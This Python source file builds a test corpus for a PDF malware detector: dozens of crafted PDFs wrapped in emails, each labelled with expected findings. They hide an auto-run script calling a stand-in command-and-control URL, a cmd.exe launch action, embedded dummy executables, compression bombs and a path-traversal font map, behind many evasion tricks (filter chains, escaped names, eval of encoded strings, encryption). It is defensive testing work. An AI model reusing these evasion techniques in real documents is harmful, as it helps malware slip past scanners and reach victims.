"""PDF files that hide what they do or hold (catalogue B34, B39 to B41).

Each entry of `PDFS` is a file and what is to be found in it: kinds of findings, a link, an inner file or a reason of
incompleteness. Run as a program it writes the case files of tests/corpus/pdfs.
"""

# ruff: noqa: E501 - a case a line reads best
from __future__ import annotations

import base64
import re
import zlib
from pathlib import Path
from typing import NamedTuple

from pdf_files import (
    FILE_ID,
    appended,
    document,
    locked,
    lzw,
    object_stream,
    packed,
    rows_up,
    run_length,
    stream,
)  # fmt: skip

URL = "http://c2.malware.example/gate"
LINK = URL.encode()
PROGRAM = b"MZ\x90\0" + bytes(60) + b"-a-string-of-a-rule-" + bytes(range(256))


class Case(NamedTuple):
    """A file, and what is found in it: `link` the URL of call-home, `inner` the program as a part of its own."""

    content: bytes
    kinds: tuple[str, ...] = ()
    link: bool = False
    inner: bool = False
    gap: str = ""


_CODE = b"app.launchURL('" + LINK + b"');"
_SCRIPT = b"<< /S /JavaScript /JS (" + _CODE.replace(b"(", b"\\(").replace(b")", b"\\)") + b") >>"
_OPEN = b"/OpenAction 9 0 R"
_AUTO = ("pdf-auto-javascript", "pdf-javascript")
PDFS: dict[str, Case] = {}


def _run(name: str, content: bytes, *more: str) -> None:
    """A file whose script runs when it is opened and calls home."""
    PDFS[name] = Case(content, (*_AUTO, *more), link=True)


def _file(name: str, content: bytes, *more: str) -> None:
    """A file that holds a program."""
    PDFS[name] = Case(content, ("pdf-embedded-executable", *more), inner=True)


_GOOD = document({9: _SCRIPT}, _OPEN)
_TABLE = _GOOD.index(b"xref\n0 1")
_EMPTY = document({})
# Structure: B39.
_run("B39 orderly", _GOOD)
_run("B39 header behind 1000 bytes", b"%" + b"x" * 998 + b"\n" + _GOOD, "pdf-damaged")
_run("B39 header behind 4000 bytes", b"%" + b"x" * 3998 + b"\n" + _GOOD, "pdf-damaged")
_run("B39 no header", _GOOD.replace(b"%PDF-1.7\n", b""), "pdf-damaged")
_run("B39 header of another format", _GOOD.replace(b"%PDF-1.7", b"%!PS-Adobe-3.0 PDF-1.4"), "pdf-damaged")
_run("B39 no end", _GOOD.replace(b"%%EOF\n", b""), "pdf-damaged")
_run("B39 no table", _GOOD[:_TABLE], "pdf-damaged")
_run("B39 no trailer", _GOOD.replace(b"trailer", b"trailed"), "pdf-damaged")
_run("B39 table elsewhere", re.sub(rb"startxref\n\d+", b"startxref\n7", _GOOD), "pdf-damaged")
_run("B39 table of zeros", re.sub(rb"\d{10} 00000 n", b"0000000000 00000 n", _GOOD), "pdf-damaged")
_run("B39 objects declared free", _GOOD.replace(b" 00000 n", b" 00000 f"))
_run("B39 table that loops", _GOOD.replace(b"/Size 99", b"/Size 99 /Prev %d" % _TABLE))
_run("B39 half a table", _GOOD.replace(b"9 1\n", b"77 1\n"))
_run("B39 cut off in the table", _GOOD[: _TABLE + 60], "pdf-damaged")
_run(
    "B39 length too short",
    document({9: b"<< /S /JavaScript /JS 8 0 R >>", 8: stream(_CODE).replace(b"/Length 46", b"/Length 3")}, _OPEN),
)
_run(
    "B39 length too long",
    document({9: b"<< /S /JavaScript /JS 8 0 R >>", 8: stream(_CODE).replace(b"/Length 46", b"/Length 460000")}, _OPEN),
)
_run(
    "B39 no length",
    document({9: b"<< /S /JavaScript /JS 8 0 R >>", 8: b"<< >> stream\r\n" + _CODE + b"\r\nendstream"}, _OPEN),
)
_run(
    "B39 length by reference",
    document(
        {
            9: b"<< /S /JavaScript /JS 8 0 R >>",
            7: b"%d" % len(_CODE),
            8: b"<< /Length 7 0 R >>\nstream\n" + _CODE + b"\nendstream",
        },
        _OPEN,
    ),
)
_run("B39 no endstream", document({9: b"<< /S /JavaScript /JS 8 0 R >>", 8: b"<< >> stream\n" + _CODE}, _OPEN))
_run("B39 no endobj", _GOOD.replace(b"endobj", b""))
_run("B39 unended dictionary", document({9: _SCRIPT.replace(b">>", b"")}, _OPEN))
_run(
    "B39 comments between tokens",
    document({9: b"<<%x\n/S%y\r/JavaScript%z\n/JS 8 %a\n 0%b\nR>>", 8: stream(_CODE)}, _OPEN),
)
_run("B39 comment in a header", _GOOD.replace(b"\n9 0 obj", b"\n9 %1 0 \n 0%x\robj"))
_run("B39 no space around obj", _GOOD.replace(b"\n9 0 obj\n", b"\n9 0obj"))
_run("B39 NUL and form feed for spaces", _GOOD.replace(b"\n9 0 obj\n", b"\n9\x000\x0cobj"))
_run("B39 generation 65535", _GOOD.replace(b"\n9 0 obj", b"\n9 65535 obj").replace(b"9 0 R", b"9 65535 R"))
_run("B39 update hides the action", appended(_GOOD, {1: b"<< /Type /Catalog /Pages 2 0 R >>", 9: b"null"}))
_run(
    "B39 update reveals the action",
    appended(_EMPTY, {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>", 9: _SCRIPT}),
)
_run(
    "B39 update without a table",
    _EMPTY
    + b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>\nendobj\n9 0 obj\n"
    + _SCRIPT
    + b"\nendobj\n",
)
_run(
    "B39 objects behind the end",
    _EMPTY + b"\n" * 2000 + b"1 0 obj << /OpenAction " + _SCRIPT + b" >> endobj",
    "pdf-damaged",
)
_run("B39 two files, evil first", _GOOD + _EMPTY)
_run("B39 two files, evil last", _EMPTY + _GOOD)
_run(
    "B39 action in the key that is doubled, first",
    document({9: _SCRIPT}, b"/OpenAction 9 0 R /OpenAction [3 0 R /Fit]"),
)
_run(
    "B39 action in the key that is doubled, last", document({9: _SCRIPT}, b"/OpenAction [3 0 R /Fit] /OpenAction 9 0 R")
)
_run("B39 older script under a newer number", appended(_GOOD, {9: b"<< /S /GoTo /D [3 0 R /Fit] >>"}))
_run(
    "B39 catalog that no trailer names",
    document({9: _SCRIPT, 8: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>"}),
)
PDFS["B39 nothing of use"] = Case(b"%PDF-1.7\nnothing of use", gap="unreadable")
PDFS["B39 nested too deep"] = Case(document({9: b"[" * 300 + _SCRIPT + b"]" * 300}), gap="malformed")
# Names, strings, object streams, filters: B40.
_run(
    "B40 escaped names",
    document(
        {9: _SCRIPT.replace(b"/S ", b"/#53 ").replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/J#53")},
        b"/Open#41ction 9 0 R",
    ),
)
_run(
    "B40 every letter escaped",
    document({9: _SCRIPT.replace(b"/JavaScript", b"/" + b"".join(b"#%02x" % c for c in b"JavaScript"))}, _OPEN),
)
_run(
    "B40 octal string",
    document({9: b"<< /S /JavaScript /JS (" + b"".join(b"\\%03o" % c for c in _CODE) + b") >>"}, _OPEN),
)
_run("B40 hexadecimal string", document({9: b"<< /S /JavaScript /JS <" + _CODE.hex(" ").encode() + b"> >>"}, _OPEN))
_run(
    "B40 hexadecimal UTF-16",
    document({9: b"<< /S /JavaScript /JS <FEFF" + _CODE.decode().encode("utf-16-be").hex().encode() + b"> >>"}, _OPEN),
)
_run(
    "B40 little-endian UTF-16",
    document({9: b"<< /S /JavaScript /JS <FFFE" + _CODE.decode().encode("utf-16-le").hex().encode() + b"> >>"}, _OPEN),
)
_run(
    "B40 continued lines",
    document(
        {
            9: b"<< /S /JavaScript /JS ("
            + b"\\\n".join(bytes([c]) if c not in b"()" else b"\\" + bytes([c]) for c in _CODE)
            + b") >>"
        },
        _OPEN,
    ),
)
_run("B40 balanced brackets", document({9: b"<< /S /JavaScript /JS (x((y)z)" + _CODE + b") >>"}, _OPEN))
_run(
    "B40 everything by reference",
    document({9: b"<< /S 10 0 R /JS 11 0 R >>", 10: b"/JavaScript", 11: b"(" + _CODE + b")"}, _OPEN),
)
_run("B40 reference to a reference", document({8: b"9 0 R", 9: _SCRIPT}, b"/OpenAction 8 0 R"))
_run("B40 script in a stream", document({9: b"<< /S /JavaScript /JS 8 0 R >>", 8: packed(_CODE)}, _OPEN))
_run("B40 object stream", document({8: object_stream({9: _SCRIPT})}, _OPEN))
_run(
    "B40 object stream that extends another",
    document({8: object_stream({9: _SCRIPT}, b"/Extends 7 0 R"), 7: object_stream({10: b"null"})}, _OPEN),
)
_run(
    "B40 object stream without a type", document({8: object_stream({9: _SCRIPT}).replace(b"/Type /ObjStm", b"")}, _OPEN)
)
_run(
    "B40 object stream that poses as a picture",
    document({8: object_stream({9: _SCRIPT}, b"/Subtype /Image").replace(b"/Type /ObjStm", b"/Type /XObject")}, _OPEN),
)
_run(
    "B40 object stream in hexadecimal",
    document(
        {
            8: object_stream(
                {9: _SCRIPT},
                pack=lambda body, extra: stream(
                    zlib.compress(body).hex().encode() + b">", b"/Filter [/AHx /Fl] " + extra
                ),
            )
        },
        _OPEN,
    ),
)
_run(
    "B40 object stream with a predictor",
    document(
        {
            8: object_stream(
                {9: _SCRIPT},
                pack=lambda body, extra: stream(
                    zlib.compress(rows_up(body, 8)),
                    b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >> " + extra,
                ),
            )
        },
        _OPEN,
    ),
)
_CHAIN = base64.a85encode(lzw(run_length(zlib.compress(_CODE)).hex().encode() + b">")) + b"~>"
_run(
    "B40 five filters",
    document(
        {
            9: b"<< /S /JavaScript /JS 8 0 R >>",
            8: stream(_CHAIN, b"/Filter [/ASCII85Decode /LZWDecode /ASCIIHexDecode /RunLengthDecode /FlateDecode]"),
        },
        _OPEN,
    ),
)
_run(
    "B40 abbreviated filters",
    document({9: b"<< /S /JavaScript /JS 8 0 R >>", 8: stream(_CHAIN, b"/Filter [/A85 /LZW /AHx /RL /Fl]")}, _OPEN),
)
_run(
    "B40 escaped filters",
    document(
        {9: b"<< /S /JavaScript /JS 8 0 R >>", 8: packed(_CODE).replace(b"/FlateDecode", b"/Fl#61te#44ecode")}, _OPEN
    ),
)
_run(
    "B40 Flate with a wrong checksum",
    document(
        {9: b"<< /S /JavaScript /JS 8 0 R >>", 8: stream(zlib.compress(_CODE)[:-4] + b"abcd", b"/Filter /FlateDecode")},
        _OPEN,
    ),
)
_run(
    "B40 Flate with a wrong header",
    document(
        {
            9: b"<< /S /JavaScript /JS 8 0 R >>",
            8: stream(b"\xff\xff" + zlib.compress(_CODE)[2:], b"/Filter /FlateDecode"),
        },
        _OPEN,
    ),
)
_run(
    "B40 Flate without a header",
    document(
        {9: b"<< /S /JavaScript /JS 8 0 R >>", 8: stream(zlib.compress(_CODE)[2:], b"/Filter /FlateDecode")}, _OPEN
    ),
)
_run(
    "B40 Flate without a checksum",
    document(
        {9: b"<< /S /JavaScript /JS 8 0 R >>", 8: stream(zlib.compress(_CODE)[:-4], b"/Filter /FlateDecode")}, _OPEN
    ),
)
_run(
    "B40 in the tree of names",
    document({9: _SCRIPT}, b"/Names << /JavaScript << /Kids [8 0 R] >> >>").replace(
        b"xref\n0 1", b"8 0 obj << /Names [(a) 9 0 R] >> endobj\nxref\n0 1"
    ),
)
_run("B40 when a page is opened", document({8: b"<< /Type /Page /AA << /O 9 0 R >> >>", 9: _SCRIPT}))
_run("B40 when a page is closed", document({8: b"<< /MediaBox [0 0 9 9] /AA << /C 9 0 R >> >>", 9: _SCRIPT}))
_run(
    "B40 when an annotation shows",
    document({8: b"<< /Type /Annot /Subtype /Widget /AA << /PV 9 0 R >> >>", 9: _SCRIPT}),
)
_run("B40 before the file is closed", document({9: _SCRIPT}, b"/AA << /WC 9 0 R >>"))
_run(
    "B40 behind another action",
    document({9: _SCRIPT}, b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /Next 9 0 R >>] >>"),
)
_run("B40 in a rendition", document({9: b"<< /S /Rendition /OP 4 /JS (" + _CODE + b") >>"}, _OPEN), "pdf-media")
_run(
    "B40 escaped characters",
    document(
        {
            9: b"<< /S /JavaScript /JS 8 0 R >>",
            8: stream(b"eval(unescape('" + b"".join(b"%%%02x" % c for c in _CODE) + b"'))"),
        },
        _OPEN,
    ),
)
_run(
    "B40 wide escapes as bytes",
    document(
        {
            9: b"<< /S /JavaScript /JS 8 0 R >>",
            8: stream(
                b"var s = unescape('"
                + b"".join(
                    b"%%u%02x%02x" % (b, a) for a, b in zip((LINK + b"  ")[::2], (LINK + b"  ")[1::2], strict=False)
                )
                + b"');"
            ),
        },
        _OPEN,
    ),
)
_run(
    "B40 character codes",
    document(
        {
            9: b"<< /S /JavaScript /JS 8 0 R >>",
            8: stream(b"eval(String.fromCharCode(" + b",".join(b"%d" % c for c in _CODE) + b"))"),
        },
        _OPEN,
    ),
)
_run(
    "B40 joined strings",
    document(
        {
            9: b"<< /S /JavaScript /JS 8 0 R >>",
            8: stream(b"var a = 'http://c2.'; a += 'malware'; app.launchURL(a + '.example' + '/gate')"),
        },
        _OPEN,
    ),
)
PDFS["B40 launch"] = Case(
    document({9: b"<< /S /Launch /Win << /F (cmd.exe) /P (/c start " + LINK + b") >> >>"}, _OPEN),
    ("pdf-launch", "pdf-auto-action"),
    link=True,
)
PDFS["B40 launch of a file on a server"] = Case(
    document({9: b"<< /S /#4caunch /F << /Type /Filespec /UF (\\\\\\\\192.0.2.7\\\\x\\\\a.exe) >> >>"}), ("pdf-launch",)
)
PDFS["B40 link"] = Case(
    document({9: b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (" + LINK + b") >> >>"}), link=True
)
PDFS["B40 link on a base"] = Case(document({}, b"/URI << /Base (" + LINK + b") >>"), link=True)
PDFS["B40 link in the text"] = Case(
    document({4: stream(b"BT /F 9 Tf [(http://c2.mal) -20 (ware.example/gate)] TJ ET")}), link=True
)
PDFS["B40 link in the text of an older page"] = Case(
    appended(
        document({4: packed(b"BT /F 9 Tf [(http://c2.mal) -20 (ware.example/gate)] TJ ET")}), {4: stream(b"BT ET")}
    ),
    link=True,
)
PDFS["B40 link in metadata"] = Case(
    document(
        {
            9: packed(
                b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><a>" + LINK + b"</a></x:xmpmeta>",
                b"/Type /Metadata /Subtype /XML",
            )
        }
    ),
    link=True,
)
PDFS["B40 form that sends"] = Case(
    document({9: b"<< /S /SubmitForm /F << /FS /URL /F (" + LINK + b") >> >>"}, _OPEN),
    ("pdf-submit-form", "pdf-auto-action"),
    link=True,
)
PDFS["B40 another file"] = Case(
    document({9: b"<< /S /GoToR /F (\\\\\\\\192.0.2.7\\\\share\\\\a.pdf) /D [0 /Fit] >>"}, b"/OpenAction 9 0 R"),
    ("pdf-remote-file", "pdf-auto-action"),
)
PDFS["B40 stream in another file"] = Case(
    document({9: b"<< /Length 0 /F (" + LINK + b") /FFilter /FlateDecode >>\nstream\n\nendstream"}),
    ("pdf-remote-file",),
    link=True,
)
PDFS["B40 import of data"] = Case(
    document({9: b"<< /S /ImportData /F (" + LINK + b") >>"}), ("pdf-remote-file",), link=True
)
PDFS["B40 Flash"] = Case(
    document(
        {
            9: b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) << /EF << /F 8 0 R >> /F (a.swf) >>] >> >> >>",
            8: packed(b"FWS\x09" + bytes(40)),
        }
    ),
    ("pdf-media", "pdf-embedded-file"),
)
PDFS["B40 three dimensions"] = Case(
    document({9: stream(b"U3D\0", b"/Type /3D /Subtype /U3D /OnInstantiate 8 0 R"), 8: stream(_CODE)}),
    ("pdf-javascript",),
    link=True,
)
_XFA = (
    b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><event activity='initialize'><script contentType='application/x-javascript'>xfa.host.gotoURL(\""
    + LINK
    + b"\")</script></event><submit target='"
    + LINK
    + b"'/></template></xdp:xdp>"
)
PDFS["B40 XFA"] = Case(
    document({9: packed(_XFA)}, b"/AcroForm << /Fields [] /XFA 9 0 R >>"),
    ("pdf-xfa", "pdf-xfa-script", "pdf-submit-form"),
    link=True,
)
PDFS["B40 XFA in packets that cut the script"] = Case(
    document(
        {8: packed(_XFA[:150]), 9: packed(_XFA[150:])}, b"/AcroForm << /XFA [(template) 8 0 R (datasets) 9 0 R] >>"
    ),
    ("pdf-xfa", "pdf-xfa-script"),
    link=True,
)
_TEXT = _CODE.replace(b"(", b"\\(").replace(b")", b"\\)")
_run(
    "B40 script in the title",
    document({9: b"<< /S /JavaScript /JS (eval\\(this.info.Title\\)) >>", 10: b"<< /Title (" + _TEXT + b") >>"}, _OPEN),
)
_run(
    "B40 script in an annotation",
    document(
        {
            9: b"<< /S /JavaScript /JS (eval\\(this.getAnnots\\(\\)[0].subject\\)) >>",
            10: b"<< /Type /Annot /Subj (" + _TEXT + b") >>",
        },
        _OPEN,
    ),
)
_run(
    "B40 script in a field, coded",
    document(
        {
            9: b"<< /S /JavaScript /JS (eval\\(unescape\\(this.getField\\('a'\\).value\\)\\)) >>",
            10: b"<< /FT /Tx /T (a) /V (" + b"".join(b"%%%02x" % c for c in _CODE) + b") >>",
        },
        _OPEN,
    ),
)
_run(
    "B40 script in an array",
    document({9: b"<< /S /JavaScript /JS [(app.launchURL\\(') (" + LINK + b"'\\);)] >>"}, _OPEN),
)
_run(
    "B39 blanks behind stream",
    document({9: b"<< /S /JavaScript /JS 8 0 R >>", 8: packed(_CODE).replace(b"stream\n", b"stream  \r\n", 1)}, _OPEN),
)
_run(
    "B39 numbers with zeros before",
    _GOOD.replace(b"\n9 0 obj", b"\n0000000000009 00000 obj").replace(b"9 0 R", b"00009 00000 R"),
)
_run(
    "B40 words that end objects in a string",
    document({9: b"<< /X (endobj) /S /JavaScript /JS (endobj stream " + _TEXT + b") >>"}, _OPEN),
)
_run(
    "B40 object stream of many numbers",
    document({8: object_stream({**{number: b"%d" % number for number in range(20, 400)}, 9: _SCRIPT})}, _OPEN),
)
_run(
    "B40 object stream with a comment in its head",
    document({8: packed(b"%x\n9 0 " + _SCRIPT, b"/Type /ObjStm /N 1 /First 7")}, _OPEN),
)
# Files.
_SPEC = b"<< /Type /Filespec /F (report.doc) /UF <FEFF5831544A002E006500780065> /EF << /F 10 0 R >> >>"
_file(
    "B40 embedded",
    document(
        {9: _SPEC, 10: packed(PROGRAM, b"/Type /EmbeddedFile")}, b"/Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >>"
    ),
    "pdf-embedded-file",
)
_file(
    "B40 embedded under five filters",
    document(
        {
            9: _SPEC,
            10: stream(
                base64.a85encode(lzw(run_length(zlib.compress(PROGRAM)).hex().encode())) + b"~>",
                b"/Filter [/A85 /LZW /AHx /RL /Fl]",
            ),
        }
    ),
)
_file(
    "B40 attached to a page",
    document({8: b"<< /Type /Annot /Subtype /FileAttachment /FS 9 0 R >>", 9: _SPEC, 10: packed(PROGRAM)}),
)
_file("B40 associated file", document({9: _SPEC, 10: packed(PROGRAM)}, b"/AF [9 0 R]"))
_file(
    "B40 portfolio",
    document(
        {9: _SPEC, 10: packed(PROGRAM)},
        b"/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >>",
    ),
    "pdf-portfolio",
)
_file(
    "B40 related file",
    document(
        {9: b"<< /F (a) /EF << /F 8 0 R >> /RF << /F [(x.exe) 10 0 R] >> >>", 8: stream(b"x"), 10: packed(PROGRAM)}
    ),
)
_file(
    "B40 embedded in an older revision", appended(document({9: _SPEC, 10: packed(PROGRAM)}), {10: stream(b"harmless")})
)
_file("B40 embedded and named by nobody", document({10: packed(PROGRAM, b"/Type /EmbeddedFile")}))
_file("B40 embedded without a type", document({10: packed(PROGRAM)}))
_file(
    "B40 embedded in an embedded file",
    document(
        {
            9: _SPEC.replace(b"report.doc", b"a.pdf").replace(b"<FEFF5831544A002E006500780065>", b"(a.pdf)"),
            10: packed(document({9: _SPEC, 10: packed(PROGRAM)})),
        }
    ),
)
_file(
    "B40 name in raw Shift_JIS",
    document(
        {
            9: b"<< /F (" + "報告書.exe".encode("cp932").replace(b"\\", b"\\\\") + b") /EF << /F 10 0 R >> >>",
            10: packed(PROGRAM),
        }
    ),
)
PDFS["B34 embedded bomb"] = Case(document({9: _SPEC, 10: packed(bytes(8 << 20))}), gap="limit")
PDFS["B34 bomb in two steps"] = Case(
    document(
        {
            9: _SPEC,
            10: stream(zlib.compress(zlib.compress(bytes(64 << 20), 9), 9), b"/Filter [/FlateDecode /FlateDecode]"),
        }
    ),
    gap="limit",
)
PDFS["B40 unknown filter"] = Case(document({9: _SPEC, 10: stream(PROGRAM, b"/Filter /Oink")}), gap="unreadable")
PDFS["B40 damaged embedded file"] = Case(
    document({9: _SPEC, 10: stream(b"x\x9c\x07" + zlib.compress(PROGRAM), b"/Filter /FlateDecode")}), gap="unreadable"
)


def _locked(revision: int, password: bytes, catalog: bytes = _OPEN) -> bytes:
    """A file whose script and embedded program are enciphered."""
    stated, cipher = locked(revision, password)
    hidden = stream(cipher(zlib.compress(PROGRAM), 10), b"/Filter /FlateDecode")
    objects = {
        4: stream(cipher(b"BT /F 9 Tf (a page) Tj ET", 4)), 8: stated,
        9: b"<< /S /JavaScript /JS <" + cipher(_CODE, 9).hex().encode() + b"> >>",
        10: hidden, 11: b"<< /F <" + cipher(b"a.exe", 11).hex().encode() + b"> /EF << /F 10 0 R >> >>",
    }  # fmt: skip
    identity = FILE_ID.hex().encode()
    return document(objects, catalog, b"/Encrypt 8 0 R /ID [<%s> <%s>]" % (identity, identity))


for _revision in range(2, 7):
    PDFS[f"B40 empty password, revision {_revision}"] = Case(
        _locked(_revision, b""), (*_AUTO, "pdf-encrypted"), link=True, inner=True
    )
    PDFS[f"B37 password of the mail, revision {_revision}"] = Case(
        _locked(_revision, b"Kaki-5501"), (*_AUTO, "pdf-encrypted"), link=True, inner=True
    )
    PDFS[f"B37 unknown password, revision {_revision}"] = Case(
        _locked(_revision, b"another"), (*_AUTO, "pdf-encrypted"), gap="locked"
    )
PDFS["B40 certificates"] = Case(
    document({8: b"<< /Filter /Adobe.PubSec /V 4 >>", 9: _SCRIPT}, _OPEN, b"/Encrypt 8 0 R"), _AUTO, gap="locked"
)
_run(
    "B39 trailers that differ over encryption",
    appended(_GOOD, {8: locked(4, b"")[0]}, b"/Encrypt 8 0 R /ID [<%s> ()]" % FILE_ID.hex().encode()),
)
_FILES_ALONE = locked(4, b"Kaki-5501")[0].replace(
    b"/StmF /StdCF /StrF /StdCF", b"/StmF /Identity /StrF /Identity /EFF /StdCF"
)
_ID = b"/Encrypt 8 0 R /ID [<%s> ()]" % FILE_ID.hex().encode()
_CLOSED = stream(locked(4, b"Kaki-5501")[1](PROGRAM, 10), b"/Type /EmbeddedFile")
PDFS["B37 files alone are locked, password of the mail"] = Case(
    document({8: _FILES_ALONE, 9: _SCRIPT, 10: _CLOSED, 11: _SPEC}, _OPEN, _ID), _AUTO, link=True, inner=True
)
PDFS["B37 files alone are locked, unknown password"] = Case(
    document(
        {8: _FILES_ALONE.replace(b"Kaki", b"x"), 9: _SCRIPT, 10: _CLOSED, 11: _SPEC}, _OPEN, _ID.replace(b"<00", b"<ff")
    ),
    _AUTO,
    link=True,
    gap="locked",
)
PDFS["B40 a stream that is not enciphered"] = Case(
    document(
        {
            8: locked(4, b"")[0],
            9: b"<< /S /JavaScript /JS 10 0 R >>",
            10: stream(_CODE, b"/Filter [/Crypt] /DecodeParms [<< /Name /Identity >>]"),
        },
        _OPEN,
        _ID,
    ),
    _AUTO,
    link=True,
)
# The map of characters by a path (CVE-2025-64512): it is not read, the rest is.
_FONT = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /#2Ftmp#2Fx /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /X /CIDSystemInfo << /Registry (../../../../tmp/x) /Ordering (/tmp/x) /Supplement 0 >> >>] >>"
_run("B41 character map by a path", document({5: _FONT, 9: _SCRIPT}, _OPEN))
_run(
    "B41 character map that uses a path",
    document(
        {
            5: _FONT.replace(b"/Encoding /#2Ftmp#2Fx", b"/Encoding 8 0 R"),
            8: stream(b"/..#2F..#2Ftmp#2Fx usecmap", b"/Type /CMap /CMapName /#2Ftmp#2Fx /UseCMap /#2Ftmp#2Fx"),
            9: _SCRIPT,
        },
        _OPEN,
    ),
)
_run(
    "B40 code among a font's numbers",
    document({9: b"<< /Type /Font /FontMatrix [1 2 3 4 5 (1\\); fetch\\('" + LINK + b"'\\)//)] >>"}),
)
# Two formats in one file: B38.
_PAGE = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=p\r\n\r\n--p\r\nContent-Type: text/html\r\n\r\n<a href='"
    + LINK
    + b"'>x</a>\r\n--p\r\nContent-Transfer-Encoding: base64\r\nContent-Location: a.exe\r\n\r\n"
    + base64.encodebytes(PROGRAM)
    + b"\r\n--p--\r\n"
)
PDFS["B38 web page behind the header"] = Case(
    b"%PDF-1.7\n%%\n1 0 obj << /Type /Catalog >> endobj\n" + _PAGE, ("pdf-damaged",), link=True, inner=True
)
PDFS["B38 called a PDF"] = Case(b"see " + LINK, ("pdf-damaged",), link=True)
_run("B38 picture before the PDF", b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04\x01\0\0\0\0" + _GOOD)
_run("B38 page around the PDF", b"<html><body>" + _GOOD + b"</body></html>")
PDFS["B38 archive before the PDF"] = Case(b"PK\x03\x04" + bytes(26) + _GOOD, _AUTO, link=True, gap="malformed")


def mail(content: bytes) -> bytes:
    """A mail that states a password and carries the file."""
    head = b"From: a@example.jp\nTo: b@example.jp\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
    text = b"--b\nContent-Type: text/plain; charset=utf-8\n\n" + "パスワード：Kaki-5501\n".encode()
    fields = b"--b\nContent-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64\n\n"
    return head + text + fields + base64.encodebytes(content) + b"--b--\n"


def case_files() -> dict[str, bytes]:
    """Each mail by the name of its case."""
    return {re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-"): mail(case.content) for name, case in PDFS.items()}


def write(directory: Path) -> None:
    """Write the case files anew; their expected readings are written by whoever has looked at them."""
    for name, content in case_files().items():
        (directory / f"{name}.eml").write_bytes(content)


if __name__ == "__main__":
    write(Path(__file__).parents[1] / "corpus" / "pdfs")
